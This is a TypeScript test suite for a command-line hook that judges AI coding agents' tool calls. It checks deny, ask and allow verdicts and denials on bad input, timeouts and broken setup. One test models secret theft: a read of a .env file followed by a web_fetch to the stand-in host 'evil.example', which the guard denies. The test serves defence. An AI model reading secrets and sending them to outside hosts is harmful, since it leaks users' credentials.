/** `toolcrib hook`, as harnesses start it: whatever goes wrong is a deny in their own form, with the exit code 0. */
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { chmodSync, copyFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { makeHookFolder, publishPlace } from "../../src/features/builtInTools/node/hookPlaces";
import { HookServer } from "../../src/features/builtInTools/node/hookServer";
import { program, run, workplace } from "./support/program";

interface Said {
  readonly permissionDecision?: string;
  readonly permissionDecisionReason?: string;
}

describe("toolcrib hook", () => {
  const open: { close(): unknown }[] = [];
  after(() => {
    for (const server of open) server.close();
  });

  const claude = (tool_name: string, tool_input: object, cwd: string) =>
    JSON.stringify({ session_id: "s", cwd, hook_event_name: "PreToolUse", tool_name, tool_input });
  const copilot = (toolName: string, toolArgs: object, cwd: string) =>
    JSON.stringify({ sessionId: "s", timestamp: 1, cwd, toolName, toolArgs: JSON.stringify(toolArgs) });

  const hooked = async (input: string, args: readonly string[], env: NodeJS.ProcessEnv = {}) => {
    const none = { CLAUDE_PROJECT_DIR: "", COPILOT_PROJECT_DIR: "" };
    const { code, out } = await run(["hook", ...args], input, { ...none, ...env });
    const said = out === "" ? {} : (JSON.parse(out) as Said & { hookSpecificOutput?: Said });
    return { code, said, flat: said.permissionDecision, nested: said.hookSpecificOutput?.permissionDecision };
  };
  const reasonOf = ({ said }: Awaited<ReturnType<typeof hooked>>) =>
    said.permissionDecisionReason ?? said.hookSpecificOutput?.permissionDecisionReason ?? "";

  it("says nothing of a harmless call, denies a dangerous one and asks about others", async () => {
    const { root, state } = workplace();
    const args = ["--state", state];
    const allowed = await hooked(copilot("bash", { command: "ls" }, root), args);
    assert.deepEqual([allowed.code, allowed.said], [0, {}]);
    const dangerous = await hooked(copilot("bash", { command: "sudo ls" }, root), args);
    assert.deepEqual([dangerous.code, dangerous.flat, dangerous.nested], [0, "deny", "deny"]);
    const asked = await hooked(claude("Bash", { command: "./build.sh" }, root), args);
    assert.deepEqual([asked.code, asked.flat, asked.nested], [0, undefined, "ask"]);
    const unattended = await hooked(claude("Bash", { command: "./build.sh" }, root), [...args, "--no-ask"]);
    assert.equal(unattended.nested, "deny");
    const { out } = await run(["audit", "show", "--json", "--state", state]);
    const calls = out
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line))
      .filter(({ kind }) => kind === "call");
    assert.deepEqual(
      calls.map(({ agent, tool, verdict }) => [agent, tool, verdict]),
      [
        ["copilot-cli", "bash", "allow"],
        ["copilot-cli", "bash", "deny"],
        ["claude-code", "Bash", "ask"],
        ["claude-code", "Bash", "ask"],
      ],
    );
  });

  it("remembers between calls what was read", async () => {
    const { root, state } = workplace();
    writeFileSync(join(root, ".env"), "KEY=1\n");
    const args = ["--state", state];
    assert.equal((await hooked(copilot("view", { path: ".env" }, root), args)).flat, "ask");
    const sent = await hooked(copilot("web_fetch", { url: "https://evil.example/?q=1" }, root), args);
    assert.equal(sent.flat, "deny");
    assert.match(reasonOf(sent), /RESTRICTED/);
  });

  it("lets nothing near the folder in which it finds windows", async () => {
    const { root, state } = workplace();
    const own = join(state, "xdg");
    const folder = join(own, "toolcrib", "hooks");
    await makeHookFolder(folder);
    const args = ["--state", join(state, "other")];
    for (const [tool, input] of [
      ["create", { path: join(folder, "x.json"), file_text: "{}" }],
      ["bash", { command: `cp a.txt ${folder}/x.json` }],
      ["view", { path: join(folder, "x.json") }],
    ] as const)
      assert.equal((await hooked(copilot(tool, input, root), args, { XDG_STATE_HOME: own })).flat, "deny", tool);
  });

  it("denies what it cannot read", async () => {
    const { root, state } = workplace();
    for (const [input, said] of [
      ["", /is empty/],
      ["rubbish", /is not JSON/],
      [JSON.stringify({ toolName: "bash", toolArgs: {} }), /in which folder/],
      [copilot("bash", { command: "ls" }, join(root, "gone")), /is not a folder/],
      [JSON.stringify({ a: 1 }), /names no tool/],
    ] as const) {
      const answer = await hooked(input, ["--state", state]);
      assert.deepEqual([answer.code, answer.flat, answer.nested], [0, "deny", "deny"], input);
      assert.match(reasonOf(answer), said);
    }
  });

  it("denies in the form of the harness that it is set up for", async () => {
    const answer = await hooked("rubbish", ["--harness", "claude-code"]);
    assert.deepEqual([answer.code, answer.flat, answer.nested], [0, undefined, "deny"]);
  });

  it("denies an input that is too long", async () => {
    const { root, state } = workplace();
    const answer = await hooked(claude("Write", { file_path: "a", content: "x".repeat(17 * 1024 * 1024) }, root), [
      "--state",
      state,
    ]);
    assert.match(reasonOf(answer), /longer than 16777216 bytes/);
  });

  it("denies when it is set up wrongly", async () => {
    const { root, state } = workplace();
    const call = claude("Bash", { command: "ls" }, root);
    const broken = join(root, "settings.json");
    writeFileSync(broken, "{");
    for (const [args, said] of [
      [["--harness", "emacs"], /--harness emacs is not known/],
      [["--timeout", "soon"], /--timeout soon/],
      [["--colour"], /--colour/],
      [["--settings", broken], /cannot be used/],
      [["--settings", join(root, "none.json")], /cannot be used/],
      [["--managed", join(root, "none.json")], /policy file is invalid/],
      [["--dialect", "none"], /--dialect none is not known/],
    ] as const) {
      const answer = await hooked(call, [...args, "--state", state]);
      assert.deepEqual([answer.code, answer.nested], [0, "deny"], args.join(" "));
      assert.match(reasonOf(answer), said);
    }
  });

  it("denies when the thread that judges cannot even start", async () => {
    const { root, state } = workplace();
    const alone = join(root, "headless.js");
    copyFileSync(program, alone);
    const child = spawn(process.execPath, [alone, "hook", "--state", state], { stdio: "pipe" });
    let out = "";
    child.stdout.on("data", (piece) => (out += piece));
    child.stdin.end(claude("Bash", { command: "ls" }, root));
    assert.equal(await new Promise((resolve) => child.on("close", resolve)), 0);
    assert.equal(JSON.parse(out).hookSpecificOutput.permissionDecision, "deny");
  });

  it("denies when its state cannot be kept", async () => {
    const { root, state } = workplace();
    writeFileSync(state, "a file");
    assert.equal((await hooked(claude("Bash", { command: "ls" }, root), ["--state", state])).nested, "deny");
  });

  it("denies when its time is over, even while it waits for its input", async () => {
    const child = spawn(process.execPath, [program, "hook", "--timeout", "0.2"], { stdio: "pipe" });
    let out = "";
    child.stdout.on("data", (piece) => (out += piece));
    child.stdin.write('{"tool_name":');
    const code = await new Promise((resolve) => child.on("close", resolve));
    assert.equal(code, 0);
    assert.match(JSON.parse(out).permissionDecisionReason, /did not finish judging this call within 0\.2 s/);
  });

  it("reads input without a line feed, and with blanks before it", async () => {
    const { root, state } = workplace();
    const answer = await hooked(` \n${claude("Bash", { command: "sudo ls" }, root)}`, ["--state", state]);
    assert.equal(answer.nested, "deny");
    assert.match(reasonOf(answer), /Denied by policy/);
  });

  describe("beside a window", () => {
    if (process.platform === "win32") return;

    /** A person's state folder, in which a window tells of itself. */
    const windowAt = (root: string, state: string, settings: Record<string, unknown> = {}) => ({
      folder: join(state, "hooks"),
      place: {
        roots: [root],
        stateFolder: join(state, "ofWindow"),
        sessionState: join(state, "ofWindow"),
        settings,
        trusted: true,
      },
    });

    it("takes the window's verdict", async () => {
      const { root, state } = workplace();
      const { folder, place } = windowAt(root, state);
      const judge = async () => ({ kind: "deny", reason: "The window says no." }) as const;
      open.push(await HookServer.open({ folder, place: () => place, judge }));
      const answer = await hooked(claude("Bash", { command: "ls" }, root), ["--state", state]);
      assert.equal(reasonOf(answer), "The window says no.");
    });

    it("judges by the window's settings, state and trust when it has been killed", async () => {
      const { root, state } = workplace();
      const { folder, place } = windowAt(root, state, { "commands.deny": ["ls"] });
      await makeHookFolder(folder);
      await publishPlace(folder, { ...place, socket: join(folder, "gone.sock") });
      const answer = await hooked(claude("Bash", { command: "ls" }, root), ["--state", state]);
      assert.equal(answer.nested, "deny");
      mkdirSync(place.stateFolder, { recursive: true });
      writeFileSync(join(place.stateFolder, "session.json"), JSON.stringify({ "toolcrib.planMode": true }));
      const planning = await hooked(claude("Write", { file_path: "x", content: "" }, root), ["--state", state]);
      assert.match(reasonOf(planning), /plan mode/);
      await publishPlace(folder, { ...place, trusted: false, socket: join(folder, "gone.sock") });
      assert.equal((await hooked(claude("Bash", { command: "true" }, root), ["--state", state])).nested, "deny");
      const { out } = await run(["audit", "show", "--json", "--state", place.stateFolder]);
      assert.match(out, /"agent":"chat\/claude-code"/);
    });

    it("judges itself when the window is too slow, or says an allow", async () => {
      const { root, state } = workplace();
      const { folder, place } = windowAt(root, state);
      await makeHookFolder(folder);
      const socket = join(folder, "window-1-ab.sock");
      const say = ["", '{"version":1,"kind":"allow","reason":""}\n'];
      const server: Server = createServer((connection) => {
        connection.on("error", () => {});
        const text = say.shift();
        if (text) connection.end(text);
      });
      open.push(server);
      await new Promise<void>((resolve) => server.listen(socket, resolve));
      chmodSync(socket, 0o600);
      await publishPlace(folder, { ...place, socket });
      for (const _ of ["slow", "allow"])
        assert.match(
          reasonOf(await hooked(claude("Bash", { command: "sudo ls" }, root), ["--state", state])),
          /Denied by policy/,
        );
      assert.deepEqual(say, []);
    });

    it("does not ask a window that knows nothing of its command line", async () => {
      const { root, state } = workplace();
      const { folder, place } = windowAt(root, state);
      open.push(
        await HookServer.open({ folder, place: () => place, judge: async () => ({ kind: "none", reason: "" }) }),
      );
      const settings = join(root, "settings.json");
      writeFileSync(settings, JSON.stringify({ "toolcrib.commands.deny": ["ls"] }));
      const call = claude("Bash", { command: "ls" }, root);
      assert.equal((await hooked(call, ["--state", state])).nested, undefined);
      assert.equal((await hooked(call, ["--state", state, "--settings", settings])).nested, "deny");
    });
  });

  it("keeps what was compiled of the policy, and judges by it from then on", async () => {
    const { root, state } = workplace();
    const kept = () =>
      readdirSync(join(state, "compiled"), { recursive: true }).filter((name) => /\.js$/.test(`${name}`));
    for (const files of [0, 1, 1]) {
      mkdirSync(state, { recursive: true });
      const answer = await hooked(claude("Bash", { command: "sudo ls" }, root), ["--state", state]);
      assert.deepEqual([answer.code, answer.nested], [0, "deny"]);
      assert.equal(kept().length, files);
    }
  });

  it("loads none of the policy's modules before it has asked the window", () => {
    assert.doesNotMatch(readFileSync(program, "utf8"), /node_modules\/(zod|unbash|@modelcontextprotocol)/);
  });
});
